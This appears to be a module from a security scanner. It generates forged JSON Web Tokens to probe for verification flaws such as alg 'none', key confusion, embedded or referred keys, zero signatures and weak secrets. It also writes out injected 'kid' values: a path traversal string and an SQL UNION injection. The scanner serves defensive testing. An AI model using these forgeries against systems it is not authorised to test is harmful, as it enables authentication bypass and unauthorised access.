"""Forged JSON Web Tokens, one for each known mistake in verification. All of them carry the claims of the recorded token, so that
a service which accepts one gives no new rights.

A forgery is written anew for each request: blanks behind the payload's JSON make another text, and so another signature,
of the same claims.
"""

from collections.abc import Callable, Iterable
from random import Random
from typing import Any, NamedTuple

from gatecrash.core.testing.authorization.tokens.jwt import (
    DIGESTS,
    Sign,
    Token,
    compact,
    decode,
    encode,
    unsigned,
    with_hmac,
)
from gatecrash.core.testing.authorization.tokens.jwt_keys import PublicKey, as_secrets, own_key
from gatecrash.core.testing.authorization.tokens.jwt_secrets import is_drawn, said


class Mistake(NamedTuple):
    """What a verifier does wrong. told: what the accepted token was, for the proof. threat: 1 to 100."""

    name: str
    title: str
    cwe: int
    threat: int
    told: str


_FORGEABLE = 95
IGNORED = Mistake(
    "ignored", "Signatures of tokens are not verified", 347, _FORGEABLE, "its signature replaced by random characters"
)
CHANGED = Mistake(
    "changed",
    "Tokens may be changed under their old signature",
    347,
    _FORGEABLE,
    "its payload written anew, its signature kept",
)
DROPPED = Mistake("dropped", "Tokens without their signature are taken", 347, _FORGEABLE, "its signature left out")
PARTLY = Mistake(
    "partly",
    "Signatures of tokens are compared in part",
    347,
    70,
    "the first half of its signature kept, random characters behind it",
)
NONE = Mistake("none", "Unsigned tokens are taken", 347, _FORGEABLE, "the algorithm {alg} and no signature")
EMPTY_KEY = Mistake(
    "empty_key",
    "An unknown key identifier makes the key empty",
    347,
    _FORGEABLE,
    "an unknown kid, signed with an empty key",
)
KID_PATH = Mistake(
    "kid_path", "The key identifier of a token is used as a file's path", 22, _FORGEABLE,
    "a kid that leads to /dev/null, signed with an empty key",
)  # fmt: skip
KID_QUERY = Mistake(
    "kid_query", "The key identifier of a token is put into a statement", 89, _FORGEABLE,
    "a kid that makes a statement select a text of ours, signed with this text",
)  # fmt: skip
CONFUSED = Mistake(
    "confused", "A public key is taken for a shared secret", 347, _FORGEABLE,
    "the algorithm HS256, signed with the server's public key, which anybody can read",
)  # fmt: skip
EMBEDDED = Mistake(
    "embedded",
    "Tokens may bring the key that verifies them",
    347,
    _FORGEABLE,
    "a key of ours in its header, signed with it",
)
REFERRED = Mistake(
    "referred",
    "Tokens may say where the key that verifies them is fetched from",
    345,
    80,
    "an address of ours as jku and x5u",
)
WEAK = Mistake("weak", "Tokens are signed with a common word", 1391, _FORGEABLE, "signed anew with the word {word}")
DRAWN = Mistake(
    "drawn",
    "The key that signs tokens is given away",
    522,
    _FORGEABLE,
    "signed anew with {word}, which an answer tells",
)
ZEROS = Mistake(
    "zeros", "Signatures of nothing but zeros are taken", 347, _FORGEABLE, "its signature replaced by zeros"
)
EXPIRED = Mistake("expired", "Expired tokens are taken", 613, 55, "expired long ago")
EARLY = Mistake("early", "Tokens are taken before they are valid", 613, 40, "not valid before the year 2100")

MISTAKES = (
    IGNORED, CHANGED, DROPPED, PARTLY, NONE, EMPTY_KEY, KID_PATH, KID_QUERY, CONFUSED, EMBEDDED, REFERRED, ZEROS, WEAK, DRAWN, EXPIRED, EARLY,
)  # fmt: skip

LONG_AGO, FAR_AHEAD = 1_000_000_000, 4_102_444_800
"""September 2001 and January 2100, in UNIX seconds."""
_MOST_BLANKS = 200
_HMAC_LENGTH = 32
# RFC 7518 section 3.4: two numbers of the curve's size.
_CURVE_LENGTHS = {"ES256": 64, "ES256K": 64, "ES384": 96, "ES512": 132}
# The likeliest first: so many are tried, and so many where requests are to be spared.
_CASINGS = ("none", "nOnE", "NONE", "None")
_FEW_CASINGS, _SECRETS, _FEW_SECRETS = 3, 3, 2


class Forgery(NamedTuple):
    """A token to be tried. write: the token, other characters each time. sign: what forges any token where it is taken.

    claims: for what is signed; words: what the mistake's sentences name.
    """

    mistake: Mistake
    write: Callable[[Random], bytes]
    forge: Callable[[dict[str, Any]], bytes] | None = None
    words: dict[str, str] = {}

    @property
    def told(self) -> str:
        """What the token is, in words."""
        return self.mistake.told.format(**self.words)


def garbled_signature(token: Token) -> Forgery:
    """The token as it is before another signature of the same length; some decoders refuse what no encoder writes."""
    length = len(decode(token.parts[2]) or b"") or _HMAC_LENGTH

    def write(random: Random) -> bytes:
        return token.signed + b"." + encode(random.randbytes(length))

    return Forgery(IGNORED, write, _kept(token))


def half_signature(token: Token) -> Forgery:
    """The token as it is, with another second half of its signature: who compares less than all of it can be tried out."""
    signature = decode(token.parts[2]) or bytes(_HMAC_LENGTH)
    half = len(signature) // 2

    def write(random: Random) -> bytes:
        return token.signed + b"." + encode(signature[:half] + random.randbytes(len(signature) - half))

    return Forgery(PARTLY, write)


def unsigned_forgeries(token: Token, *, thorough: bool) -> list[Forgery]:
    """Without signatures: `alg` none in its casings, with the old signature behind it, the signature left out, the
    payload changed.

    Verifiers compare `alg` with a list of refused spellings, or with names of an enumeration; each takes another casing.
    """
    casings = _CASINGS if thorough else _CASINGS[:_FEW_CASINGS]
    forgeries = [_signed(token, NONE, {"alg": alg}, unsigned, alg=alg) for alg in casings]

    def old_signature(random: Random) -> bytes:
        return compact({**token.header, "alg": "none"}, _payload(token, random), unsigned) + token.parts[2]

    def changed(random: Random) -> bytes:
        return token.parts[0] + b"." + _payload(token, random) + b"." + token.parts[2]

    forgeries.append(Forgery(NONE, old_signature, None, {"alg": "none before the old signature"}))
    forgeries.append(Forgery(DROPPED, lambda _random: token.signed + b".", lambda claims: _unsigned_as(token, claims)))
    forgeries.append(Forgery(CHANGED, changed, _kept(token)))
    if thorough:
        forgeries.append(_signed(token, NONE, {}, unsigned, without=("alg",), alg="left out"))
        forgeries.append(Forgery(DROPPED, lambda _random: token.signed))
    return forgeries


def _zero_forgeries(token: Token) -> list[Forgery]:
    """A signature on a curve is two numbers; where nobody looks whether they are zero, they fit every text and every key."""
    length = _CURVE_LENGTHS.get(token.algorithm)
    return [_signed(token, ZEROS, {}, lambda _signed: bytes(length))] if length else []


def key_forgeries(token: Token, *, thorough: bool) -> list[Forgery]:
    """A key that the token brings along; where it names its key, a name that leads to a key we know."""
    own, sign = own_key()
    forgeries = [_signed(token, EMBEDDED, {"alg": "RS256", **own}, sign, without=("kid",)), *_zero_forgeries(token)]
    # Whoever verifies by public keys rarely has a shared one to look up by name.
    if "kid" not in token.header or not (thorough or token.algorithm in DIGESTS):
        return forgeries
    empty = with_hmac("HS256", b"")
    path = "../" * 12 + "dev/null"
    # A read of a constant: nothing is written whatever stands around it.
    query = "nokey' UNION SELECT 'gatecrash' -- "
    return [
        *forgeries,
        _signed(token, EMPTY_KEY, {"alg": "HS256", "kid": "gatecrash-no-such-key"}, empty),
        _signed(token, KID_PATH, {"alg": "HS256", "kid": path}, empty),
        _signed(token, KID_QUERY, {"alg": "HS256", "kid": query}, with_hmac("HS256", b"gatecrash")),
    ]


def confused_forgeries(
    token: Token, keys: Iterable[PublicKey], *, thorough: bool, texts: Iterable[bytes] = ()
) -> list[Forgery]:
    """HS256 under each form of the public keys, the likeliest only. texts: as the target itself tells them, without the last
    line's end; files have one.
    """
    told = [secret for text in texts for secret in (text + b"\n", text)]
    likeliest = as_secrets(keys)[: _SECRETS if thorough else _FEW_SECRETS]
    return [
        _signed(token, CONFUSED, {"alg": "HS256"}, with_hmac("HS256", secret))
        for secret in dict.fromkeys((*told, *likeliest))
    ]


def weak_forgery(token: Token, word: bytes) -> Forgery:
    """Signed anew with the word that the token is signed with. One that nobody would try was read in an answer of the target."""
    mistake = DRAWN if is_drawn(word) else WEAK
    return _signed(token, mistake, {}, with_hmac(token.algorithm, word), word=said(word))


def referred_token(token: Token, jku: str, x5u: str, random: Random) -> bytes:
    """Signed with a key of ours that is said to be found at these addresses."""
    _, sign = own_key()
    header = {**_header(token, ("jwk", "x5c")), "alg": "RS256", "jku": jku, "x5u": x5u}
    return compact(header, _payload(token, random), sign)


def count_of(token: Token, *, thorough: bool) -> int:
    """How many forgeries are tried of a token that nobody takes, those with published keys left out."""
    named = 3 if "kid" in token.header and (thorough or token.algorithm in DIGESTS) else 0
    return 2 + len(unsigned_forgeries(token, thorough=thorough)) + len(_zero_forgeries(token)) + named


def timed_forgeries(forgery: Forgery, token: Token) -> list[Forgery]:
    """Expired and not yet valid, forged in a way that is known to be taken; none where nothing can be forged so."""
    forge = forgery.forge
    if forge is None:
        return []
    expired = {**token.payload, "exp": LONG_AGO}
    early = {**token.payload, "nbf": FAR_AHEAD}
    return [Forgery(EXPIRED, lambda _random: forge(expired)), Forgery(EARLY, lambda _random: forge(early))]


def _signed(
    token: Token, mistake: Mistake, header: dict[str, Any], sign: Sign, without: tuple[str, ...] = (), **words: str
) -> Forgery:
    changed = {**_header(token, without), **header}

    def write(random: Random) -> bytes:
        return compact(changed, _payload(token, random), sign)

    return Forgery(mistake, write, lambda claims: compact(changed, claims, sign), words)


def _header(token: Token, without: tuple[str, ...]) -> dict[str, Any]:
    return {name: value for name, value in token.header.items() if name not in without}


def _kept(token: Token) -> Callable[[dict[str, Any]], bytes]:
    return lambda claims: compact(token.header, claims, unsigned) + token.parts[2]


def _unsigned_as(token: Token, claims: dict[str, Any]) -> bytes:
    return compact(token.header, claims, unsigned)


def _payload(token: Token, random: Random) -> bytes:
    """The same claims in another text: their JSON with blanks behind it."""
    return encode((decode(token.parts[1]) or b"{}") + b" " * random.randint(1, _MOST_BLANKS))
